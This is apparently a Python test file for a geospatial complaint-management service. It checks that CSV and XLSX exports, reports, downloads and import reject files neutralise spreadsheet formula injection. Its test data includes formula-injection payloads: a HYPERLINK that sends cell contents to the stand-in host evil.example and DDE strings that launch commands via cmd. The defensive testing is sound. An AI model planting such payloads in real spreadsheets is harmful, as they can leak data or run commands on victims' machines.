"""Formula injection: text from the field never runs as a formula in an export or a report.

The sample town's input files are copied and given the trap: complaint texts, a problem
description and a village name that start with ``=``, ``+``, ``-`` or ``@`` (the payloads
of the attack run: ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``). Every table for people
(layer and target exports in CSV and XLSX, the department report, the web downloads and
``--rejects``) keeps them as inert text; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from geoservice.api.app import create_app
from geoservice.base.access import add_user
from geoservice.base.cells import csv_cells, formula_like, xlsx_cells
from geoservice.base.settings import Settings
from geoservice.base.workspace import Workspace
from geoservice.files.exporting import export_layer
from geoservice.reports.departments import department_report
from geoservice.reports.xlsx import write_xlsx
from tests.support.builders import AS_OF, analysed_town, sample_with_texts

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
]
VILLAGE = "白石村"
EVIL_VILLAGE = '=HYPERLINK("http://evil.example/","白石村")'
EVIL_TOWN = "=1+1"
# What each exported layer must carry as inert text.
LAYER_PAYLOADS = [
    ("complaints", PAYLOADS),
    ("problems", [PAYLOADS[0], EVIL_VILLAGE]),
    ("villages", [EVIL_VILLAGE]),
    ("targets", [EVIL_VILLAGE]),
]


# --- the trapped town ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def town(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """Payloads in complaint texts, a problem description and a village name."""
    folder = tmp_path_factory.mktemp("town")
    files = sample_with_texts(folder / "files", PAYLOADS, PAYLOADS[0], VILLAGE, EVIL_VILLAGE)
    return analysed_town(files, folder / "town.gpkg")


@pytest.mark.slow
def test_the_workspace_holds_the_payloads(town):
    assert set(PAYLOADS) <= set(town.read("complaints")["description"])
    assert (town.read("villages")["village_name"] == EVIL_VILLAGE).any()
    assert (town.read("problems")["description"] == PAYLOADS[0]).any()


# --- reading back ---------------------------------------------------------------------------


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_csv_inert(data: bytes, payloads: list[str]) -> list[list[str]]:
    rows = _csv_cells(data)
    cells = {c for row in rows for c in row}
    for text in payloads:
        assert "'" + text in cells, text
        assert text not in cells, text
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    return rows


def _assert_xlsx_inert(data: bytes, payloads: list[str]) -> list[openpyxl.cell.cell.Cell]:
    cells = _xlsx_cells(data)
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value: c for c in cells if c.data_type == "s"}
    for text in payloads:
        assert text in texts, text
        assert texts[text].quotePrefix, text
    return cells


# --- exports of layers and targets ----------------------------------------------------------


@pytest.mark.parametrize(("layer", "payloads"), LAYER_PAYLOADS)
def test_csv_export_prefixes_formula_text_with_a_quote(town, tmp_path, layer, payloads):
    result = export_layer(town, layer, tmp_path / f"{layer}.csv", actor="t")
    _assert_csv_inert(result.path.read_bytes(), payloads)


@pytest.mark.parametrize(("layer", "payloads"), LAYER_PAYLOADS)
def test_xlsx_export_writes_formula_text_as_text(town, tmp_path, layer, payloads):
    result = export_layer(town, layer, tmp_path / f"{layer}.xlsx", actor="t")
    _assert_xlsx_inert(result.path.read_bytes(), payloads)


def test_numbers_in_a_target_export_stay_numbers(town, tmp_path):
    header, *rows = _csv_cells(
        export_layer(town, "targets", tmp_path / "t.csv", actor="t").path.read_bytes()
    )
    scores = [row[header.index("风险评分")] for row in rows]
    assert scores and all(float(v) >= 0 for v in scores)  # no quote in front
    book = openpyxl.load_workbook(
        export_layer(town, "targets", tmp_path / "t.xlsx", actor="t").path
    )
    sheet = book.active
    for head in ("风险评分", "中心经度", "中心纬度"):
        column = next(c.column_letter for c in sheet[1] if c.value == head)
        cells = sheet[column][1:]
        assert cells and all(c.data_type == "n" and isinstance(c.value, float) for c in cells)


# --- the department report ----------------------------------------------------------------------


def test_the_xlsx_report_keeps_the_town_and_village_names_as_text(town, tmp_path):
    report = department_report(town, date(2024, 1, 1), AS_OF, AS_OF, town=EVIL_TOWN)
    path = write_xlsx(report, tmp_path / "r.xlsx")
    cells = _assert_xlsx_inert(path.read_bytes(), [EVIL_VILLAGE])
    title = cells[0]
    assert title.value.startswith(EVIL_TOWN) and title.data_type == "s" and title.quotePrefix
    rates = [c for c in cells if c.number_format == "0%" and c.value is not None]
    assert rates and all(c.data_type == "n" for c in rates)


# --- the web downloads --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def client(town: Workspace) -> tuple[TestClient, dict[str, str]]:
    _user, token = add_user(town, name="林长办", by="test", role="office")
    settings = Settings(workspace=town.path, user="service", evidence_dir=town.path.parent / "ev")
    return TestClient(create_app(settings)), {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_target_download_is_inert(client, fmt):
    app, headers = client
    res = app.get(f"/targets/export?format={fmt}", headers=headers)
    assert res.status_code == 200, res.text
    check = _assert_csv_inert if fmt == "csv" else _assert_xlsx_inert
    check(res.content, [EVIL_VILLAGE])


def test_the_report_download_is_inert(client):
    app, headers = client
    url = f"/reports/departments?from=2024-01-01&to={AS_OF}&format=xlsx&town={EVIL_TOWN}"
    res = app.get(url.replace("+", "%2B"), headers=headers)
    assert res.status_code == 200, res.text
    cells = _assert_xlsx_inert(res.content, [EVIL_VILLAGE])
    assert cells[0].value.startswith(EVIL_TOWN) and cells[0].quotePrefix


# --- --rejects -------------------------------------------------------------------------------------


def test_the_rejects_file_of_an_import_is_inert(tmp_path):
    from geoservice.cli.app import app

    sheet = pd.DataFrame(
        {
            "举报编号": ["JB-1", "JB-2"],
            "受理时间": ["2026-10-08", "2026-10-09"],
            "举报内容": [PAYLOADS[1], PAYLOADS[3]],
            "经度": ["", "不详"],
            "纬度": ["", "不详"],
        }
    )
    path = tmp_path / "举报.csv"
    sheet.to_csv(path, index=False, encoding="utf-8-sig")
    rejects = tmp_path / "rejects.csv"
    res = CliRunner().invoke(
        app,
        [
            "import",
            "complaints",
            str(path),
            "-w",
            str(tmp_path / "w.gpkg"),
            "--rejects",
            str(rejects),
        ],
        env={"GEOSERVICE_USER": "t"},
    )
    assert rejects.exists(), res.output
    _assert_csv_inert(rejects.read_bytes(), [PAYLOADS[1], PAYLOADS[3]])


# --- the cell rules -----------------------------------------------------------------------------


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "n": [-3.5, 2.0, -1.0],
            "text": ["-3.5", "正常", "\tcmd"],
            "mixed": [-3.5, "=1+1", None],
            "cat": pd.Categorical(["@x", "y", "@x"]),
            "=head": ["a", "b", "c"],
        }
    )


def test_formula_like_is_text_only():
    frame = _frame()
    assert list(formula_like(frame["n"])) == [False, False, False]
    assert list(formula_like(frame["text"])) == [True, False, True]
    assert list(formula_like(frame["mixed"])) == [False, True, False]
    assert list(formula_like(frame["cat"])) == [True, False, True]


def test_csv_cells_prefix_text_and_headers_and_keep_numbers():
    out = csv_cells(_frame())
    assert list(out.columns) == ["n", "text", "mixed", "cat", "'=head"]
    assert out["n"].tolist() == [-3.5, 2.0, -1.0] and out["n"].dtype == float
    assert out["text"].tolist() == ["'-3.5", "正常", "'\tcmd"]
    assert out["mixed"].tolist()[:2] == [-3.5, "'=1+1"]
    assert out["cat"].tolist() == ["'@x", "y", "'@x"]


def test_csv_cells_of_an_empty_or_clean_frame_change_nothing():
    empty = pd.DataFrame({"a": pd.Series([], dtype=object)})
    assert csv_cells(empty) is empty
    clean = pd.DataFrame({"a": ["x"], "b": [-1]})
    assert csv_cells(clean) is clean


def test_xlsx_cells_turn_formulas_into_quoted_text_and_keep_numbers(tmp_path):
    frame = _frame()
    path = tmp_path / "f.xlsx"
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        frame.to_excel(writer, index=False, sheet_name="data")
        sheet = writer.sheets["data"]
        assert sheet["C3"].data_type == "f"  # what pandas and openpyxl do on their own
        xlsx_cells(sheet, frame)
    sheet = openpyxl.load_workbook(path)["data"]
    assert (sheet["C3"].value, sheet["C3"].data_type, sheet["C3"].quotePrefix) == (
        "=1+1",
        "s",
        True,
    )
    assert (sheet["E1"].value, sheet["E1"].data_type) == ("=head", "s")
    assert (sheet["A2"].value, sheet["A2"].data_type) == (-3.5, "n")
    assert (sheet["B2"].value, sheet["B2"].quotePrefix) == ("-3.5", True)
    assert not sheet["B3"].quotePrefix
